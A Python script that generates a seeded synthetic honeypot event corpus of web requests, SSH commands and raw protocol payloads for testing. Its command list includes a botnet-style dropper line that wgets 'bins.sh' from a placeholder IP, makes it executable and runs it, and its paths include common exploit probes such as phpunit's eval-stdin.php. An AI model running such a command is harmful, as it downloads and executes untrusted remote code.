#!/usr/bin/env python3
"""A mixed honeypot corpus as Mitsu events (JSON lines): web requests with headers and bodies, shell
command lines, SSH client versions, and trap payloads (HTTP on odd ports, TLS ClientHellos, SMB, Redis,
random binary), sizes from a few bytes to 16 KiB. Seeded, so every run inspects the same bytes."""
import base64, json, random, sys

def main(n, out):
    rnd = random.Random(7)
    paths = ["/", "/index.php", "/wp-login.php", "/admin/config.php", "/cgi-bin/luci", "/api/v1/users", "/.env",
             "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "/boaform/admin/formLogin", "/HNAP1/", "/shell?cd+/tmp"]
    uas = ["Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
           "curl/7.88.1", "python-requests/2.31.0", "Go-http-client/1.1", "Mozilla/5.0 zgrab/0.x", "Hello World"]
    cmds = ["uname -a", "cat /proc/cpuinfo | grep name | wc -l", "cd /tmp || cd /var/run; wget http://198.51.100.7/bins.sh; chmod 777 bins.sh; sh bins.sh",
            "echo -e '\\x41\\x42'", "ls -la /", "free -m", "/bin/busybox ECCHI", "crontab -l", "nproc", "w"]
    def b64(b): return base64.b64encode(b).decode()
    with open(out, "w") as f:
        for i in range(n):
            sess = "%012x" % (0xb00000 + i)
            base = {"@timestamp": "2026-11-27T01:00:00.000Z", "session": sess, "src_ip": f"203.0.113.{i % 250 + 1}",
                    "src_port": 40000 + i % 20000, "dest_ip": "192.0.2.10", "transport": "tcp"}
            k = rnd.random()
            if k < 0.45:
                body = "".join(rnd.choice("abcdefghij=&%0123456789") for _ in range(rnd.choice([0, 0, 64, 512, 4096])))
                h = {"Host": "192.0.2.10:8080", "User-Agent": rnd.choice(uas), "Accept": "*/*", "Accept-Encoding": "gzip, deflate",
                     "Connection": "keep-alive", "Cookie": "PHPSESSID=" + "".join(rnd.choice("0123456789abcdef") for _ in range(26))}
                uri = rnd.choice(paths) + "?id=%d&q=%s" % (i, "".join(rnd.choice("abc%20xyz") for _ in range(rnd.randint(0, 200))))
                e = dict(base, event="http.request", honeypot="web", dest_port=8080, protocol="http",
                         http={"method": rnd.choice(["GET", "GET", "POST"]), "uri": uri, "version": "HTTP/1.1", "host": h["Host"],
                               "user_agent": h["User-Agent"], "headers": h})
                if body:
                    e["payload"] = {"length": len(body), "sha256": "0" * 64, "printable": "", "b64": b64(body.encode())}
            elif k < 0.65:
                e = dict(base, event="command.input", honeypot="ssh", dest_port=22, protocol="ssh", input=rnd.choice(cmds))
            elif k < 0.70:
                e = dict(base, event="ssh.client.version", honeypot="ssh", dest_port=22, protocol="ssh",
                         client_version=rnd.choice(["SSH-2.0-OpenSSH_8.9p1", "SSH-2.0-Go", "SSH-2.0-libssh_0.9.6", "SSH-2.0-PuTTY"]))
            else:
                kind = rnd.random()
                if kind < 0.3:
                    data = bytes([0x16, 3, 1, 2, 0, 1, 0, 1, 0xfc, 3, 3]) + bytes(rnd.getrandbits(8) for _ in range(500))
                elif kind < 0.5:
                    data = b"\x00\x00\x00\x85\xffSMBr" + bytes(rnd.getrandbits(8) for _ in range(130))
                elif kind < 0.7:
                    data = ("GET /%s HTTP/1.1\r\nHost: x\r\nUser-Agent: %s\r\n\r\n" % ("a" * rnd.randint(1, 300), rnd.choice(uas))).encode()
                elif kind < 0.8:
                    data = b"*1\r\n$4\r\nINFO\r\n"
                else:
                    data = bytes(rnd.getrandbits(8) for _ in range(rnd.choice([16, 256, 2048, 16384])))
                e = dict(base, event="payload", honeypot="trap", dest_port=rnd.choice([23, 445, 443, 6379, 8888, 37215]),
                         payload={"length": len(data), "sha256": "0" * 64, "printable": "", "b64": b64(data)})
            f.write(json.dumps(e, separators=(",", ":")) + "\n")

if __name__ == "__main__":
    main(int(sys.argv[1]), sys.argv[2])
